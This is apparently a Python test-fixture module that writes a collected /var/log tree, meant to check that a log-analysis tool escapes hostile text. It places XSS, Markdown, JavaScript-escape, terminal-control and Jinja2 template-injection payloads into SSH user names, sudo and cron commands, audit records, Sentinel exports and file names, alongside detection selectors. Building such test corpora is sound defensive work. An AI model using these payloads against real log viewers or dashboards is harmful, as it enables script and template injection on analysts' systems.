"""Hostile log content as data, and real-format log files that carry it.

Attackers choose the text an analyst later reads: the user names tried over SSH,
command lines, process and host names, URLs. Each payload below sits where an
attacker controls text in a real log line (``Failed password for invalid user
<payload> from ...``, sudo ``COMMAND=``, cron ``CMD (...)``, an auditd EXECVE
argument, a Sentinel alert's Description and Entities), so the whole pipeline,
readers to browser, sees it exactly as it would arrive from a compromised host.

Every script payload calls ``alert`` (so a browser test sees a dialog if one
runs) or marks itself with ``pwned`` (id, class, ``data-pwn``) so an injected
element can be found with :data:`INJECTED_SELECTOR`.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
from datetime import UTC, datetime
from pathlib import Path
from typing import Final

HOST: Final = "victim01"
ATTACKER_IP: Final = "203.0.113.9"  # TEST-NET-3: never located
# A public address geolocated offline (geoip2fast), so map popups and tooltips carry payloads.
LOCATED_IP: Final = "45.155.205.233"
# The only address that tries the template-injection user name below (maps show ~10 users per address).
SSTI_IP: Final = "185.220.101.1"
# Jinja2 server-side template injection without quotes (html.escape would break quotes): if any
# renderer compiles log text as a template, this sets an environment variable in the app's process.
SSTI_ENV: Final = "HUNTING_PWNED_SSTI"
SSTI: Final = (
    "{{cycler.__init__.__globals__.os.environ.setdefault(dict(" + SSTI_ENV + "=1)|first,dict(yes=1)|first)}}"
)
# File mtime: lines without a year are read as 2024 (March is before the mtime's month).
MTIME: Final = datetime(2024, 3, 20, 12, 0, tzinfo=UTC).timestamp()
DAY: Final = datetime(2024, 3, 9, tzinfo=UTC)

# Payloads with spaces: free text (user names after "invalid user", commands, descriptions).
PAYLOADS: Final[dict[str, str]] = {
    "script": "<script>alert('pwned-script')</script>",
    "script_data": "<script data-pwn>alert('pwned-data')</script>",
    "img_onerror": '<img src="x" onerror="alert(\'pwned-img\')">',
    "svg_onload": "<svg onload=\"alert('pwned-svg')\"><circle r=9></circle></svg>",
    "js_link": '<a href="javascript:alert(\'pwned-a\')" id="pwned">click me</a>',
    "event_attr": '<div class="pwned" onmouseover="alert(\'pwned-hover\')" style="position:fixed;inset:0">x</div>',
    "attr_breakout": '" autofocus onfocus="alert(\'pwned-focus\')" x="',
    "single_breakout": "' onfocus='alert(1)' autofocus x='",
    "md_link": "[click here](javascript:alert('pwned-md'))",
    "md_image": "![x](http://127.0.0.1:9/pwned.png)",
    "md_autolink": "<javascript:alert('pwned-auto')>",
    "html_comment": "--><script data-pwn>alert('pwned-comment')</script><!--",
    "script_breakout": "</script><script data-pwn>alert('pwned-breakout')</script>",
    "style_breakout": '</style><img src="x" onerror="alert(\'pwned-style\')">',
    "textarea_breakout": '</textarea></title><img src="x" onerror="alert(\'pwned-title\')">',
    "iframe_srcdoc": "<iframe srcdoc=\"<script>parent.alert('pwned-srcdoc')</script>\"></iframe>",
    "template": "{{7*7}} {{constructor.constructor('alert(1)')()}} {% raw %} ${7*7}",
    "js_template": "${alert('pwned-template')}",
    "backtick": "`;alert('pwned-backtick');`",
    "latex": "$\\href{javascript:alert('pwned-katex')}{click}$",
    "streamlit_directive": ":red[pwned] :material/warning: <span style='color:red'>x</span>",
    "json_breakout": "\"}]);alert('pwned-json');//",
    "href_tooltip": 'href <img src="x" onerror="alert(\'pwned-href\')">',
    "ansi": "\x1b[31mRED\x1b[0m \x1b]0;pwned-title\x07 \x1b[2J",
    "control": "bell\x07back\x08space\x0bvt\x0cff\x7fdel",
    "rtl": "invoice\u202egpj.exe \u2066isolate\u2069 zero\u200bwidth",
}
# Payloads without whitespace, ':' or brackets: where the log format ends a field at a
# space (host names, process names, the user in a pam session line, IPs in URLs).
TOKEN_PAYLOADS: Final[dict[str, str]] = {
    "img_token": "<img/src='x'/onerror=alert('pwned-tok')>",
    "svg_token": "<svg/onload=alert('pwned-svgtok')>",
    "js_template_token": "${alert(1)}",
    "md_image_token": "![x](http//127.0.0.1/pwned.png)",
    "script_token": "<script/data-pwn>alert(1)</script>",
}
# Markup written with JavaScript string escapes: inert as HTML text, live again once
# placed inside a JavaScript string literal (issue 16: fired in the folium map).
JS_ESCAPE_PAYLOADS: Final[dict[str, str]] = {
    "js_u_escape": "\\u003cimg src=x onerror=alert('pwned-jsu')\\u003e",
    "js_u_escape_token": "\\u003cimg/src/onerror=alert('pwned-jsut')\\u003e",
    "js_x_escape": "\\x3cimg src=x onerror=alert('pwned-jsx')\\x3e",
}
# A host name and a process name that are payloads (syslog puts both before the message).
PAYLOAD_HOST: Final = "<svg/onload=alert('pwned-host')>"
PAYLOAD_HOST_MD: Final = "![x](http://127.0.0.1:9/pwned-host.png)"
PAYLOAD_PROC: Final = "<img/src='x'/onerror=alert('pwned-proc')>"
LONG_TOKEN: Final = "A" * 20_000 + "<script>alert('pwned-long')</script>"
URLS: Final = (
    "http://evil.example.com/<script>alert('pwned-url')</script>",
    "http://evil.example.com/x?q=\"><img src=x onerror=alert('pwned-url2')>",
    "javascript:alert('pwned-jsurl')",
)

# Any of these in the page (or a same-origin frame) means a payload became markup.
INJECTED_SELECTOR: Final = ", ".join(
    (
        "script[data-pwn]",
        'img[src="x"]',
        "img[onerror]",
        "svg[onload]",
        "[onerror]",
        "[onmouseover]",
        "[onfocus]",
        "#pwned",
        ".pwned",
        "[data-pwn]",
        'a[href^="javascript:"]',
        'img[src*="127.0.0.1:9"]',
        'img[src*="pwned"]',
        'a[href^="http"][href*="pwned"]',  # page links carry payloads URL-encoded, relative: fine
        'a[href*="127.0.0.1:9"]',
    )
)
# File names are attacker-chosen too (a collected /var/log): a Markdown image whose
# backslashes browsers turn into slashes, and markup ("/" cannot be in a file name).
FILE_NAME_PAYLOADS: Final[dict[str, str]] = {
    "md_image_file": "![x](http:\\\\127.0.0.1:9\\pwned-file.png).log",
    "html_file": "<img src=x onerror=alert('pwned-fname')>.log",
}
# Where the corpus puts payloads (for the browser test's payloads x fields x pages count).
FIELDS: Final = (
    "sshd invalid user",
    "sshd source host",
    "syslog host name",
    "syslog program tag",
    "sudo COMMAND",
    "sudo user",
    "cron CMD",
    "useradd name/home/shell",
    "audit EXECVE args (hex)",
    "audit exe/comm/cwd",
    "audit PROCTITLE",
    "journald MESSAGE",
    "journald SYSLOG_IDENTIFIER",
    "Sentinel alert columns",
    "Sentinel Syslog export columns",
    "Sentinel Heartbeat columns",
    "passwd GECOS/home/shell",
    "file names",
)
# Substrings whose raw presence in generated HTML means markup was not escaped.
HTML_MARKERS: Final = (
    "<script>alert(",
    "<script data-pwn>",
    '<img src="x"',
    "<img/src=",
    "<svg onload",
    "<svg/onload",
    '<a href="javascript:',
    '<div class="pwned"',
    '<iframe srcdoc="',
    "</script><script",
)


def all_payloads() -> dict[str, str]:
    return {**PAYLOADS, **JS_ESCAPE_PAYLOADS, **TOKEN_PAYLOADS}


def html_payloads() -> dict[str, str]:
    """Payloads holding markup: their raw text must never appear in generated HTML."""
    return {k: v for k, v in all_payloads().items() if "<" in v and ">" in v}


def _bsd(seconds: int) -> str:
    t = datetime.fromtimestamp(DAY.timestamp() + seconds, UTC)
    return f"{t:%b} {t.day:2d} {t:%H:%M:%S}"


def auth_log_lines() -> list[str]:
    """Traditional syslog lines (auth.log) with payloads where attackers write text."""
    lines: list[str] = []
    t = 36_000  # 10:00
    pid = 4000
    for p in all_payloads().values():
        t += 7
        pid += 1
        lines += [
            f"{_bsd(t)} {HOST} sshd[{pid}]: Invalid user {p} from {ATTACKER_IP} port 4242",
            f"{_bsd(t + 1)} {HOST} sshd[{pid}]: Failed password for invalid user {p} from {ATTACKER_IP} port 4242 ssh2",
            f"{_bsd(t + 2)} {HOST} sshd[{pid}]: Failed password for invalid user {p} from {LOCATED_IP} port 5151 ssh2",
        ]
    for p in TOKEN_PAYLOADS.values():
        t += 3
        lines.append(
            f"{_bsd(t)} {HOST} sshd[{pid}]: pam_unix(sshd:session): session opened for user {p}(uid=0) by (uid=0)"
        )
    t += 3
    lines.append(
        f"{_bsd(t)} {HOST} sshd[4999]: Failed password for invalid user {SSTI} from {SSTI_IP} port 4444 ssh2"
    )
    # a successful logon and its session, so session pages have something to scope to
    t += 60
    lines += [
        f"{_bsd(t)} {HOST} sshd[5001]: Accepted password for root from {LOCATED_IP} port 50000 ssh2",
        f"{_bsd(t)} {HOST} sshd[5001]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
    ]
    for p in PAYLOADS.values():
        t += 5
        lines += [
            f"{_bsd(t)} {HOST} sudo:     root : TTY=pts/0 ; PWD=/tmp/{p} ; USER=root ; COMMAND=/bin/sh -c {p}",
            f"{_bsd(t + 1)} {HOST} CRON[{6000 + len(lines)}]: (root) CMD ({p})",
        ]
    for url in URLS:
        t += 5
        lines.append(
            f"{_bsd(t)} {HOST} sudo:     root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/wget {url}"
        )
    t += 5
    lines += [
        f"{_bsd(t)} {HOST} useradd[7001]: new user: name={TOKEN_PAYLOADS['img_token']}, UID=1001, GID=1001, "
        f"home=/home/{TOKEN_PAYLOADS['svg_token']}, shell={PAYLOADS['script']}",
        f"{_bsd(t + 1)} {HOST} {PAYLOAD_PROC}[7002]: message from a payload process {PAYLOADS['img_onerror']}",
        f"{_bsd(t + 2)} {HOST} sshd[7003]: Failed password for invalid user {LONG_TOKEN} from {ATTACKER_IP} port 1 ssh2",
        f"{_bsd(t + 3)} {HOST} sshd[5001]: pam_unix(sshd:session): session closed for user root",
    ]
    # a second and third host whose names are payloads
    lines += [
        f"{_bsd(t + 4)} {PAYLOAD_HOST} {PAYLOAD_PROC}[66]: {PAYLOADS['script']}",
        f"{_bsd(t + 5)} {PAYLOAD_HOST} sshd[67]: Failed password for invalid user {PAYLOADS['md_link']} "
        f"from {LOCATED_IP} port 1 ssh2",
        f"{_bsd(t + 6)} {PAYLOAD_HOST_MD} sshd[68]: Failed password for invalid user {PAYLOADS['md_image']} "
        f"from {LOCATED_IP} port 2 ssh2",
    ]
    return lines


def _needs_hex(data: bytes) -> bool:
    """auditd's rule for untrusted strings: quotes, spaces, control and non-ASCII bytes go hex."""
    return any(b == 0x22 or b < 0x21 or b > 0x7E for b in data)


def _field(text: str) -> str:
    data = text.encode()
    return data.hex().upper() if _needs_hex(data) else f'"{text}"'


def audit_log_lines() -> list[str]:
    """Raw audit.log: execve events whose comm, exe, cwd, arguments and proctitle carry payloads."""
    lines: list[str] = []
    base = DAY.timestamp() + 36_000
    ppid = 5001  # the sshd of the accepted logon above
    pid = 9000
    payloads = list(all_payloads().items())
    for i, (_, p) in enumerate(payloads):
        pid += 1
        ts = f"{base + 300 + i:.3f}"
        serial = 1000 + i
        argv = ["/bin/bash", "-c", p]
        comm = p[:15]
        exe = f"/tmp/{p}" if i % 2 else "/bin/bash"
        head = f"msg=audit({ts}:{serial}):"
        lines += [
            f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 "
            f"ppid={ppid} pid={pid} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 "
            f"tty=pts0 ses=7 comm={_field(comm)} exe={_field(exe)} key={_field('pwned key ' + p[:20])}",
            f"type=EXECVE {head} argc={len(argv)} "
            + " ".join(f"a{j}={_field(a)}" for j, a in enumerate(argv)),
            f"type=CWD {head} cwd={_field('/tmp/' + p)}",
            f"type=PATH {head} item=0 name={_field(exe)} inode=1 dev=00:00 mode=0100755 ouid=0 ogid=0 "
            "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0",
            f"type=PROCTITLE {head} proctitle={chr(0).join(argv).encode().hex().upper()}",
            f"type=EOE {head}",
        ]
        ppid = pid if i % 3 == 0 else ppid  # some chains, some siblings
    return lines


ALERT_HEADER: Final = (
    "TimeGenerated", "StartTimeUtc", "EndTimeUtc", "AlertName", "AlertDisplayName", "AlertType",
    "Description", "Severity", "ProviderName", "SystemAlertId", "CompromisedEntity", "Entities",
    "ExtendedProperties",
)  # fmt: skip


def alerts_csv() -> str:
    """A SecurityAlert export (CSV) whose names, descriptions and entities carry payloads."""
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(ALERT_HEADER)
    for i, (name, p) in enumerate(all_payloads().items()):
        t = datetime.fromtimestamp(DAY.timestamp() + 37_000 + 60 * i, UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
        entities = [
            {"$id": "2", "Type": "host", "HostName": HOST},
            {"$id": "3", "Type": "account", "Name": p, "NTDomain": p},
            {"$id": "4", "Type": "ip", "Address": LOCATED_IP},
            {"$id": "5", "Type": "process", "CommandLine": p},
        ]
        props = {
            "Command": p,
            "User": p,
            "Link": "javascript:alert('pwned-prop')",
            p[:40]: "key is a payload",
        }
        w.writerow(
            (
                t, t, t, f"Alert {name} {p}", f"Alert {p}", f"Type{name}", f"Description {p}",
                ("High", "Medium", "Low")[i % 3], "Hostile corpus", f"id-{i}-{name}", HOST,
                json.dumps(entities), json.dumps(props),
            )
        )  # fmt: skip
    return out.getvalue()


def _iso(seconds: int) -> str:
    return datetime.fromtimestamp(DAY.timestamp() + seconds, UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")


def syslog_export_csv() -> str:
    """A Sentinel Syslog export (CSV, as the portal writes it): payloads in the program name
    (ProcessName, tokens only), the facility/severity columns and the message an agent forwarded."""
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(
        (
            "TimeGenerated",
            "Computer",
            "Facility",
            "SeverityLevel",
            "ProcessName",
            "ProcessID",
            "SyslogMessage",
        )
    )
    for i, p in enumerate(all_payloads().values()):
        w.writerow(
            (_iso(50_000 + 5 * i), HOST, "auth", "info", "sshd", 7000 + i,
             f"Failed password for invalid user {p} from {ATTACKER_IP} port 4242 ssh2")
        )  # fmt: skip
    for i, p in enumerate(TOKEN_PAYLOADS.values()):
        w.writerow((_iso(51_000 + 5 * i), HOST, f"auth{p}", f"info{p}", p, 7500 + i, f"message of {p}"))
    return out.getvalue()


HEARTBEAT_HEADER: Final = (
    "TimeGenerated", "Computer", "ComputerIP", "OSType", "OSName", "OSMajorVersion", "OSMinorVersion",
    "Version", "Category", "ComputerEnvironment", "Solutions",
)  # fmt: skip


def heartbeat_csv() -> str:
    """A Sentinel Heartbeat export: the agent's self-description is text the host writes."""
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(HEARTBEAT_HEADER)
    for i, p in enumerate(all_payloads().values()):
        w.writerow(
            (_iso(52_000 + 60 * i), HOST, LOCATED_IP, "Linux", f"Ubuntu {p}", "22", "04",
             f"1.{i} {p}", f"Direct Agent {p}", "Non-Azure", f"security, {p}")
        )  # fmt: skip
    return out.getvalue()


def journal_lines() -> list[str]:
    """``journalctl -o json`` entries: payloads in MESSAGE, SYSLOG_IDENTIFIER and a byte-array field."""
    out = []
    for i, (_, p) in enumerate(PAYLOADS.items()):
        us = int((DAY.timestamp() + 38_000 + i) * 1_000_000)
        out.append(
            json.dumps(
                {
                    "__REALTIME_TIMESTAMP": str(us),
                    "_HOSTNAME": HOST,
                    "SYSLOG_IDENTIFIER": p.split()[0][:40] or "x",
                    "_PID": str(8000 + i),
                    "PRIORITY": "4",
                    "MESSAGE": p if i % 2 else list(p.encode()),
                }
            )
        )
    return out


def passwd_text() -> str:
    """The host's /etc/passwd with payloads in GECOS, home and shell."""
    rows = ["root:x:0:0:root:/root:/bin/bash", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin"]
    for i, p in enumerate(TOKEN_PAYLOADS.values()):
        gecos = p.replace(":", "")
        rows.append(f"user{i}:x:{1100 + i}:{1100 + i}:{gecos}:/home/{gecos}:/bin/{gecos}")
    rows.append(f"{'evil'}:x:1200:1200:{PAYLOADS['script']}:/home/evil:/bin/sh")
    return "\n".join(rows) + "\n"


def write_hostile_logs(folder: Path) -> dict[str, object]:
    """Write the corpus as a collected /var/log tree under ``folder``.

    Returns ``folder``, ``host`` (the main host), ``hosts`` (every host name
    written), ``files`` (name -> path) and ``payloads`` (name -> text).
    """
    folder = Path(folder)
    (folder / "audit").mkdir(parents=True, exist_ok=True)
    (folder / "etc").mkdir(parents=True, exist_ok=True)
    files = {
        "auth.log": folder / "auth.log",
        "auth.log.1.gz": folder / "auth.log.1.gz",
        "audit.log": folder / "audit" / "audit.log",
        "alerts.csv": folder / "SecurityAlert.csv",
        "syslog_export.csv": folder / "Syslog_export.csv",
        "heartbeat.csv": folder / "Heartbeat.csv",
        "journal.json": folder / "journal.json",
        "passwd": folder / "etc" / "passwd",
    }
    auth = "\n".join(auth_log_lines()) + "\n"
    files["auth.log"].write_text(auth, encoding="utf-8")
    # a rotated, gzip-compressed copy holding the control-character lines (same parse path as .gz evidence)
    rotated = [
        f"{_bsd(30_000 + i)} {HOST} sshd[300{i}]: Invalid user {p} from {ATTACKER_IP} port 22"
        for i, p in enumerate((PAYLOADS["ansi"], PAYLOADS["control"], PAYLOADS["rtl"]))
    ]
    files["auth.log.1.gz"].write_bytes(gzip.compress(("\n".join(rotated) + "\n").encode()))
    # raw audit.log names no host: the store gives it the host of the syslog files above it
    files["audit.log"].write_text("\n".join(audit_log_lines()) + "\n", encoding="utf-8")
    files["alerts.csv"].write_text(alerts_csv(), encoding="utf-8")
    files["syslog_export.csv"].write_text(syslog_export_csv(), encoding="utf-8")
    files["heartbeat.csv"].write_text(heartbeat_csv(), encoding="utf-8")
    files["journal.json"].write_text("\n".join(journal_lines()) + "\n", encoding="utf-8")
    files["passwd"].write_text(passwd_text(), encoding="utf-8")
    for i, name in enumerate(FILE_NAME_PAYLOADS.values()):
        files[name] = folder / name
        files[name].write_text(
            f"{_bsd(40_000 + i)} {HOST} sshd[{9100 + i}]: Connection closed by {ATTACKER_IP} port 22\n"
        )
    for path in files.values():
        os.utime(path, (MTIME, MTIME))
    return {
        "folder": folder,
        "host": HOST,
        "hosts": [HOST, PAYLOAD_HOST, PAYLOAD_HOST_MD],
        "files": files,
        "payloads": all_payloads(),
    }
